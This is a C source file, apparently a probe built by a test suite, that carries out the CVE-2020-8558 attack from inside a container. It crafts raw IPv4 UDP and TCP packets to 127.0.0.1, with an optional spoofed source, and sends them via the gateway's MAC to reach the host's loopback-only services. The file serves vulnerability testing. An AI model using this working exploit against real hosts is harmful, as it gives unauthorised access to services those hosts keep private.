/* The CVE-2020-8558 attack from inside a container, for LoopbackTests: an IPv4 packet addressed to 127.0.0.1 is
   handed straight to the gateway's MAC through a packet socket (needs CAP_NET_RAW, which containers have by default),
   so the container's own routing, which would keep 127.0.0.1 on its lo, is bypassed. On a bridge with
   route_localnet=1 the host then delivers it to its own loopback services.
   Usage: loopback-probe udp|tcp PORT [SOURCE_IP]
     udp: sends one datagram "probe" to 127.0.0.1:PORT.
     tcp: sends a SYN to 127.0.0.1:PORT; on the host's SYN-ACK completes the handshake and sends "probe".
   SOURCE_IP defaults to eth0's address (or $PROBE_IF's) (another one is a spoofed source). Prints what it saw; exits 0 when a SYN-ACK
   came back (tcp) or the datagram was sent (udp), 1 when no SYN-ACK came within 3 seconds, 2 on error.
   Built static by LoopbackTests.cs. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char payload[] = "probe";

static uint16_t checksum(const void *data, size_t len, uint32_t sum) {
    const uint8_t *p = data;
    for (; len > 1; p += 2, len -= 2) sum += (uint32_t)p[0] << 8 | p[1];
    if (len) sum += (uint32_t)p[0] << 8;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* The sum of the pseudo-header that TCP and UDP checksums cover. */
static uint32_t pseudo_sum(uint32_t src, uint32_t dst, uint8_t proto, uint16_t len) {
    uint32_t s = ntohl(src), d = ntohl(dst);
    return (s >> 16) + (s & 0xffff) + (d >> 16) + (d & 0xffff) + proto + len;
}

static void die(const char *what) { perror(what); exit(2); }

struct packet { struct iphdr ip; union { struct tcphdr tcp; struct udphdr udp; } l4; char data[64]; };

static size_t build(struct packet *pk, int proto, uint32_t src, uint16_t sport, uint16_t dport,
                    uint32_t seq, uint32_t ack, uint8_t flags, const char *data, size_t datalen) {
    memset(pk, 0, sizeof *pk);
    size_t l4len = (proto == IPPROTO_TCP ? sizeof(struct tcphdr) : sizeof(struct udphdr)) + datalen;
    char *body = (char *)&pk->l4 + (proto == IPPROTO_TCP ? sizeof(struct tcphdr) : sizeof(struct udphdr));
    memcpy(body, data, datalen);
    pk->ip.version = 4; pk->ip.ihl = 5; pk->ip.ttl = 64; pk->ip.protocol = (uint8_t)proto;
    pk->ip.tot_len = htons((uint16_t)(sizeof(struct iphdr) + l4len));
    pk->ip.id = htons((uint16_t)rand());
    pk->ip.saddr = src; pk->ip.daddr = htonl(INADDR_LOOPBACK);
    pk->ip.check = checksum(&pk->ip, sizeof pk->ip, 0);
    uint32_t ps = pseudo_sum(pk->ip.saddr, pk->ip.daddr, (uint8_t)proto, (uint16_t)l4len);
    if (proto == IPPROTO_TCP) {
        struct tcphdr *t = &pk->l4.tcp;
        t->source = htons(sport); t->dest = htons(dport); t->seq = htonl(seq); t->ack_seq = htonl(ack);
        t->doff = 5; t->window = htons(64240);
        t->syn = !!(flags & TH_SYN); t->ack = !!(flags & TH_ACK); t->psh = !!(flags & TH_PUSH);
        t->check = checksum(t, l4len, ps);
    } else {
        struct udphdr *u = &pk->l4.udp;
        u->source = htons(sport); u->dest = htons(dport); u->len = htons((uint16_t)l4len);
        u->check = checksum(u, l4len, ps);
    }
    return sizeof(struct iphdr) + l4len;
}

/* Talks to the gateway through the normal stack first, as any container does: the container ARPs for the gateway
   (so its MAC is in /proc/net/arp), and the host learns the container's MAC from that request. Without the latter
   the host could not answer: its ARP request for the container would carry 127.0.0.1 as sender, which the
   container's kernel ignores. Returns the gateway's MAC. */
static void gateway_mac(unsigned char mac[ETH_ALEN]) {
    FILE *routes = fopen("/proc/net/route", "r");
    if (!routes) die("/proc/net/route");
    char line[256], gw[16] = "";
    unsigned dest, gateway;
    while (fgets(line, sizeof line, routes))
        if (sscanf(line, "%*s %x %x", &dest, &gateway) == 2 && dest == 0 && gateway != 0) {
            inet_ntop(AF_INET, &gateway, gw, sizeof gw);
            break;
        }
    fclose(routes);
    if (!gw[0]) { fprintf(stderr, "loopback-probe: no default gateway\n"); exit(2); }
    struct sockaddr_in discard = { .sin_family = AF_INET, .sin_port = htons(9) };
    inet_pton(AF_INET, gw, &discard.sin_addr);
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    for (int i = 0; i < 30; i++) {
        sendto(u, "", 0, 0, (struct sockaddr *)&discard, sizeof discard);
        usleep(100000);
        FILE *arp = fopen("/proc/net/arp", "r");
        if (!arp) die("/proc/net/arp");
        char ip[64], hw[64];
        while (fgets(line, sizeof line, arp))
            if (sscanf(line, "%63s %*s %*s %63s", ip, hw) == 2 && !strcmp(ip, gw) && strcmp(hw, "00:00:00:00:00:00")
                && sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) == 6) {
                fclose(arp);
                close(u);
                return;
            }
        fclose(arp);
    }
    fprintf(stderr, "loopback-probe: the gateway %s did not answer ARP\n", gw);
    exit(2);
}

int main(int argc, char **argv) {
    if (argc < 3 || argc > 4 || (strcmp(argv[1], "udp") && strcmp(argv[1], "tcp"))) {
        fprintf(stderr, "usage: loopback-probe udp|tcp PORT [SOURCE_IP]\n");
        return 2;
    }
    int tcp = !strcmp(argv[1], "tcp");
    uint16_t port = (uint16_t)atoi(argv[2]);
    struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = ETH_ALEN };
    gateway_mac(to.sll_addr);
    /* SOCK_DGRAM: the kernel writes the Ethernet header (to the gateway's MAC), we write everything from IP on. */
    int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    if (s < 0) die("socket(AF_PACKET)");
    struct ifreq ifr = { 0 };
    /* PROBE_IF: the interface to send on when it is not a container's eth0 (a simulated LAN host's). */
    const char *ifname = getenv("PROBE_IF") ? getenv("PROBE_IF") : "eth0";
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", ifname);
    if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) die("SIOCGIFINDEX");
    to.sll_ifindex = ifr.ifr_ifindex;
    if (bind(s, (struct sockaddr *)&to, sizeof to) < 0) die("bind");
    uint32_t src;
    if (argc == 4) {
        if (inet_pton(AF_INET, argv[3], &src) != 1) { fprintf(stderr, "loopback-probe: bad IP '%s'\n", argv[3]); return 2; }
    } else {
        int u = socket(AF_INET, SOCK_DGRAM, 0);
        if (u < 0 || ioctl(u, SIOCGIFADDR, &ifr) < 0) die("SIOCGIFADDR");
        src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
        close(u);
    }
    srand((unsigned)time(NULL) ^ (unsigned)getpid());
    uint16_t sport = (uint16_t)(40000 + rand() % 20000);
    uint32_t isn = (uint32_t)rand();
    struct packet pk;
    size_t len = tcp ? build(&pk, IPPROTO_TCP, src, sport, port, isn, 0, TH_SYN, "", 0)
                     : build(&pk, IPPROTO_UDP, src, sport, port, 0, 0, 0, payload, strlen(payload));
    if (sendto(s, &pk, len, 0, (struct sockaddr *)&to, sizeof to) < 0) die("sendto");
    if (!tcp) { printf("udp sent\n"); return 0; }

    /* The SYN-ACK comes back from 127.0.0.1 to our address; the container's kernel drops it as a martian, but
       the packet socket sees it first. */
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        long left = 3000 - ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000);
        struct pollfd p = { .fd = s, .events = POLLIN };
        if (left <= 0 || poll(&p, 1, (int)left) <= 0) { printf("no syn-ack\n"); return 1; }
        unsigned char buf[2048];
        ssize_t n = recv(s, buf, sizeof buf, 0);
        if (n < (ssize_t)(sizeof(struct iphdr) + sizeof(struct tcphdr))) continue;
        struct iphdr *ip = (struct iphdr *)buf;
        if (ip->protocol != IPPROTO_TCP || ip->saddr != htonl(INADDR_LOOPBACK) || ip->daddr != src) continue;
        struct tcphdr *t = (struct tcphdr *)(buf + ip->ihl * 4);
        if (ntohs(t->source) != port || ntohs(t->dest) != sport || !t->syn || !t->ack) continue;
        printf("syn-ack\n");
        uint32_t seq = isn + 1, ack = ntohl(t->seq) + 1;
        len = build(&pk, IPPROTO_TCP, src, sport, port, seq, ack, TH_ACK, "", 0);
        if (sendto(s, &pk, len, 0, (struct sockaddr *)&to, sizeof to) < 0) die("sendto ack");
        len = build(&pk, IPPROTO_TCP, src, sport, port, seq, ack, TH_ACK | TH_PUSH, payload, strlen(payload));
        if (sendto(s, &pk, len, 0, (struct sockaddr *)&to, sizeof to) < 0) die("sendto data");
        return 0;
    }
}
